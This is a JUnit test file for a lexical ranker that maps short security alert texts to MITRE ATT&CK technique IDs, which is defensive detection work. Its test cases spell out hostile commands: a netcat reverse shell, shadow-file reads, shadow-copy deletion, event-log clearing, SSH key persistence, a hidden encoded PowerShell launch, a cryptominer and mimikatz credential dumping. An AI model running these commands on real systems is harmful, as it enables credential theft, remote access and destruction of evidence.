package io.winnow.analyst.builtin.similarity;

import io.winnow.analyst.builtin.SimilarityRanker.Ranked;
import io.winnow.attack.AttackCatalog;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The lexical ranker on short alert texts of the kinds that reach it. */
class LexicalRankerTest {
    private static AttackCatalog catalog;
    private static LexicalRanker ranker;

    @BeforeAll
    static void build() {
        catalog = AttackCatalog.bundled();
        ranker = LexicalRanker.create(catalog);
    }

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiter = '|', textBlock = """
            cat /etc/shadow                                                              | T1003.008
            crontab -e                                                                   | T1053.003
            nc -e /bin/sh 10.0.0.1 4444                                                  | T1059
            Failed password for invalid user admin from [EXTERNAL-IP-1] port 52311 ssh2 | T1110
            vssadmin delete shadows /all /quiet                                          | T1490
            powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA  | T1059.001
            echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys                          | T1098.004
            wevtutil cl Security                                                         | T1070.001
            ./xmrig -o stratum+tcp://pool.example:3333                                   | T1496
            nmap -sS -p- 10.0.0.0/24                                                     | T1046
            """)
    void ranksTheExpectedTechniqueInTheTopThree(String text, String expected) {
        // when
        List<Ranked> ranked = ranker.rank(text, 3);

        // then
        assertThat(ranked).as(text).extracting(Ranked::techniqueId)
                .anySatisfy(id -> assertThat(id.equals(expected) || id.startsWith(expected + ".")).isTrue());
    }

    @Test
    void givesTheSameRankingEveryTime() {
        // given
        String text = "sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow";

        // when
        List<Ranked> first = ranker.rank(text, 5);
        List<Ranked> again = LexicalRanker.create(catalog).rank(text, 5);

        // then
        assertThat(first).isNotEmpty().isEqualTo(again).isEqualTo(ranker.rank(text, 5));
    }

    @Test
    void returnsNothingForTextWithoutAnythingSpecific() {
        assertThat(ranker.rank("the quick brown fox jumps over the lazy dog", 3)).isEmpty();
        assertThat(ranker.rank("", 3)).isEmpty();
        assertThat(ranker.rank("Connection from 10.1.2.3 port 5514 on 10.1.2.4 port 22", 3)).isEmpty();
    }

    @Test
    void scoresFromZeroToOneBestFirstWithinTheLimit() {
        // when
        List<Ranked> ranked = ranker.rank("mimikatz sekurlsa::logonpasswords lsass.exe minidump", 5);

        // then
        assertThat(ranked).hasSizeLessThanOrEqualTo(5).isNotEmpty();
        assertThat(ranked.getFirst().techniqueId()).isEqualTo("T1003.001");
        assertThat(ranked).allSatisfy(r -> assertThat(r.score()).isBetween(0.0, 1.0));
        assertThat(ranked).extracting(Ranked::score).isSortedAccordingTo((a, b) -> Double.compare(b, a));
        assertThat(ranker.rank("mimikatz", 0)).isEmpty();
    }
}
